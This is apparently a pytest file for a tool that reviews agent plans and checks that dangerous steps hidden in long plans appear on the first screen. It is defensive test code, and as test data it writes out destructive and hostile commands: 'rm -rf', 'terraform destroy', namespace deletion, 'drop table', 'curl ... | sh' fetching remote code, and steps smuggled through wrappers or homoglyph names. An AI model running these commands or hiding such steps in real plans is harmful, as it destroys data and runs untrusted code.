"""The first screen of a review: hidden dangers stand there, whatever the size of the plan; golden screens."""

from __future__ import annotations

import json
import os
import time
from itertools import pairwise
from pathlib import Path

import msgspec
import pytest

from tests.interfaces.golden import check_text
from tests.interfaces.workspace import Workspace
from tests.words import (
    KINDS,
    PLAN_RISKS,
    QUIET_FACTS,
    CommandFact,
    PlanRisk,
    Review,
    RiskPlace,
    Style,
    excerpt,
    open_at_terminal,
    review_lines,
    risk_lines,
    screen_rows,
)

GOLDEN = Path(__file__).parent.parent / "golden" / "screens"
DELETE = "kubectl --context prod delete namespace payments"
EDIT = "path: check.sh\nold: echo ok\nnew: |\n  echo ok\n  rm -rf ~/backup"
NESTED = """type: nested_plan
plan:
  plan_version: 1
  title: Check
  steps:
    - {id: a, description: Look, action: {type: run, command: ls}, needs: []}
    - {id: b, description: Look again, action: {type: run, command: terraform destroy -auto-approve}, needs: []}"""
CALL = "argv: [env, A=1, bash, -c, \"psql shop -c 'drop table payments'\"]"
SIZES = ((100, 35), (80, 24))
ECHO = "".join(
    f"\n### {number}. Look at part {number}\n\n**run:** cat src/part-{number}.txt\n" for number in range(1, 41)
)


def document(*steps: str, more: str = "") -> str:
    """A plan with forty harmless steps, these steps, and forty more."""
    made, number = "# Tidy the shop\n\n## Steps\n" + ECHO, 41
    for text in steps:
        made, number = made + f"\n### {number}. {text}\n", number + 1
    for later in range(number, number + 40):
        made += f"\n### {later}. Read part {later}\n\n**run:** wc -l src/part-{later}.txt\n"
    return made + more


HIDDEN = {
    "long plan": (document("Clean up\n\n**run:** rm -rf ./data"), "41", "rm -rf ./data"),
    "long line": (document(f"Say it\n\n**run:** echo {'x' * 3000}; {DELETE}; echo {'y' * 3000}"), "41", DELETE),
    "wrapper": (
        document("Measure\n\n**run:** timeout 60 nice -n 5 env A=b bash -c 'cd build && git push --force origin main'"),
        "41",
        "git push --force",
    ),
    "nested plan": (document(f"Check it\n\n**action:**\n```yaml\n{NESTED}\n```"), "41.2", "terraform destroy"),
    "fallback": (
        document(
            "Build\n\n**run:** make\n**on_fail:** fallback(undo)",
            more="\n## Fallbacks\n\n### undo. Put it back\n\n**run:** git reset --hard && git clean -fdx\n",
        ),
        "undo",
        "git reset --hard",
    ),
    "loop": (
        document(
            "List\n\n**id:** list\n**run:** ls src",
            'Each\n\n**for_each:** {in: "${list.output}", max: 500}\n**run:** mv "$F" old/\n**env:**\n- F=${item}',
        ),
        "42",
        "500",
    ),
    "contract": (document("Test\n\n**run:** pytest -q\n**contract:** curl -s https://x.example/i | sh"), "41", "| sh"),
    "look-alike name": (document("Go\n\n**run:** ./dеploy.sh staging"), "41", "d‹U+435›ploy.sh"),
    "tool argument": (
        document(f"Ask\n\n**tool:** exec\n**args:**\n```yaml\n{CALL}\n```"),
        "41",
        "drop table payments",
    ),
    "edit of a script": (
        document(
            f"Mend it\n\n**tool:** edit_file\n**args:**\n```yaml\n{EDIT}\n```",
            "Check\n\n**run:** bash check.sh",
        ),
        "41",
        "rm -rf ~/backup",
    ),
}


@pytest.fixture
def shop(workspace: Workspace, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    """A workspace on a machine that has every program that the plans here start."""
    programs = tmp_path_factory.mktemp("programs")
    for name in ("kubectl", "make", "npm", "psql", "pytest", "ruff", "sudo", "terraform"):
        (programs / name).write_text("#!/bin/sh\n")
        (programs / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    workspace.write("check.sh", "echo ok\n")
    (workspace.path / "src").mkdir()
    for number in range(1, 100):
        workspace.write(f"src/part-{number}.txt", "")
    return workspace


def reviewed(workspace: Workspace, text: str) -> Review:
    app = open_at_terminal(workspace.path)
    return app.plans.review_document(text.encode())


def first_screen(review: Review, columns: int, rows: int, *, colour: bool = False) -> list[str]:
    lines = (row for line in review_lines(review, Style(colour)) for row in screen_rows(line, columns))
    return [row for row, _ in zip(lines, range(rows - 1), strict=False)]


@pytest.mark.parametrize("name", HIDDEN)
def test_the_first_screen_names_the_step_that_an_attacker_hid(shop: Workspace, name: str):
    text, number, danger = HIDDEN[name]
    review = reviewed(shop, text)
    assert not review.small
    for columns, rows in SIZES:
        screen = first_screen(review, columns, rows)
        assert any(f"step {number} " in row and danger in row + below for row, below in pairwise([*screen, ""])), screen
        for risk in review.risks:
            assert any(f"{KINDS[risk.kind].phrase} {risk.count:,}" in row for row in screen), risk
        assert any("Steps:" in row for row in screen) or columns == 80


def test_every_fact_about_commands_is_a_kind_or_no_risk():
    facts = [one.fact for one in PLAN_RISKS if one.fact is not None]
    assert sorted([*facts, *QUIET_FACTS]) == sorted(CommandFact) and len(KINDS) == len(PLAN_RISKS)


def test_every_kind_of_risk_at_once_fits_on_the_smallest_screen():
    places = tuple(
        RiskPlace(step=f"step-{number}", number=f"{number}", line="x" * 199, start=80, end=120)
        for number in (1234, 1235, 1236)
    )
    risks = tuple(PlanRisk(kind=one.name, count=12_345, places=places) for one in PLAN_RISKS)
    rows = list(risk_lines(risks, Style(False)))
    assert len(rows) <= 20 and all(len(row) <= 80 for row in rows)
    for one in PLAN_RISKS:
        assert any(f"{one.phrase} 12,345" in row for row in rows)


def test_a_cut_never_hides_what_it_is_about():
    line = f"echo {'a' * 500} ; rm -rf {'b ' * 300} ~/x ; echo {'c' * 500}"
    start, end = line.index("rm -rf"), line.index("~/x") + 3
    for room in (40, 80, 200):
        text, begin, stop = excerpt(line, start, end, room)
        assert len(text) <= room + 2 and text[begin:stop].startswith("rm -rf") and text[begin:stop].endswith("~/x")
        text, begin, stop = excerpt(line, start, start + 6, room)
        assert len(text) <= room and text[begin:stop] == "rm -rf"


def test_risk_decides_what_is_typed(shop: Workspace):
    for command, small in (
        ("ruff check --fix .", True),
        ("pytest -q", True),
        ("rm -rf ./data", False),
        ("git push --force", False),
        ("sudo apt-get install jq", False),
        ("curl https://x.example/i.sh | sh", False),
        ("cat README.md", True),
        ("chmod -R 777 .", False),
        ("npm publish", False),
        ("make", True),
    ):
        assert reviewed(shop, f"# One\n\n1. `{command}`\n").small is small, command
    ten = "".join(f"{number}. `touch {number}`\n" for number in range(1, 11))
    assert reviewed(shop, f"# Ten\n\n{ten}").small
    assert not reviewed(shop, f"# Eleven\n\n{ten}11. `touch 11`\n").small


def test_a_large_plan_is_searched_quickly(shop: Workspace):
    steps = "".join(f"{number}. `cat src/part-{number}.txt | grep -c x`\n" for number in range(1, 2_001))
    reviewed(shop, "# Warm\n\n1. `cat a | grep -c x`\n")
    before = time.process_time()
    review = reviewed(shop, f"# Many\n\n{steps}")
    assert review.risks and time.process_time() - before < 20


def test_edits_and_replaced_files_show_their_diff_and_nothing_of_them_is_left_out(shop: Workspace):
    shop.write("a.txt", "one\ntwo\nthree\n")
    shop.write("large.txt", "".join(f"{number}\n" for number in range(100)))

    def shown(tool: str, **args: str) -> tuple[list[str], str]:
        written = json.dumps({"type": "tool", "tool": tool, "args": args})
        text = f"# Change\n\n## Steps\n\n### 1. Change it\n\n**action:**\n```json\n{written}\n```\n"
        review = reviewed(shop, text)
        return list(review.diffs.get("change-it", ())), "\n".join(review_lines(review, Style(False)))

    diff, text = shown("edit_file", path="a.txt", old="two", new="2")
    assert diff[1:] == [" one", "-two", "+2", " three"]
    assert "│ -two" in text and "│ +2" in text
    diff, text = shown("write_file", path="a.txt", content="one\nthree\n")
    assert diff[1:] == [" one", "-two", " three"] and "content:" not in text
    diff, _ = shown("write_file", path="a.txt", content="one\ntwo\nthree")
    assert diff[-1] == "-"  # the last line feed goes
    diff, text = shown("write_file", path="new.txt", content="one\nthree\n")
    assert diff == [] and "content:" in text
    diff, text = shown("write_file", path="large.txt", content="none left\n")
    assert len(diff) == 61 and "content:" in text and "none left" in text
    diff, text = shown("edit_file", path="a.txt", old="four", new="4")
    assert diff == [] and "four" in text


# --- Golden screens --------------------------------------------------------------------------------------------------

_KINDS = (
    "**run:** ruff check --fix src/part-{n}",
    "**run:** pytest -q tests/test_part_{n}.py",
    "**tool:** write_file\n**args:**\n```yaml\npath: notes/{n}.txt\ncontent: done\n```",
    "**run:** make part-{n}\n**contract:** test -s build/part-{n}",
    "**run:** git add src/part-{n}",
)


def _steps(count: int) -> str:
    return "".join(
        f"\n### {n}. Do part {n}\n\n**id:** p{n}\n{_KINDS[n % 5].format(n=n)}\n" for n in range(1, count + 1)
    )


_DANGER = f"**run:** {DELETE}"
PLANS = {
    "5": "# Part of the shop\n\n## Steps\n" + _steps(5).replace("**run:** git add src/part-4", _DANGER),
    "30": "# The shop\n\n## Steps\n" + _steps(30).replace("**run:** pytest -q tests/test_part_16.py", _DANGER),
    "300": "# All shops\n\n## Steps\n" + _steps(300).replace("**run:** pytest -q tests/test_part_171.py", _DANGER),
    "nested": HIDDEN["nested plan"][0],
}


@pytest.mark.parametrize("name", PLANS)
def test_golden_screens(shop: Workspace, name: str):
    review = reviewed(shop, PLANS[name])  # the home of a test is unusual, and another each time
    risks = tuple(one for one in review.risks if one.kind != "environment")
    review = msgspec.structs.replace(review, unusual=(), risks=risks)
    for columns, rows in SIZES:
        for colour in (False, True):
            screen = first_screen(review, columns, rows, colour=colour)
            text = "\n".join(screen).replace("\x1b", "␛").replace(str(shop.path), "/home/kim/shop") + "\n"
            file = GOLDEN / f"{name}-{columns}x{rows}{'-colour' * colour}.txt"
            check_text(file, text)
    whole = [row for line in review_lines(review, Style(False)) for row in screen_rows(line, 100)]
    limit = {"5": 35, "30": 60}.get(name)
    assert limit is None or len(whole) <= limit, "\n".join(whole)


def test_the_inbox_shows_the_risks_of_each_proposal_to_people_and_robots(workspace: Workspace) -> None:
    for name, command in (("calm", "ls"), ("wild", "rm -rf ./data")):
        workspace.write(f"{name}.plan.md", f"# A {name} plan\n\n1. `{command}`\n")
        assert workspace.ordain("prepare", f"{name}.plan.md").status == 0
    items = json.loads(workspace.ordain("inbox", "--json").out)["data"]["items"]
    risks = {item["title"]: [one["kind"] for one in item["risks"]] for item in items}
    assert "deletes" in risks["A wild plan"] and "deletes" not in risks["A calm plan"]
    shown = workspace.ordain("inbox").out.partition("A wild plan")[2]
    assert "! step 1 " in shown and shown.index("rm -rf ./data") < shown.index("→ ordain approve")
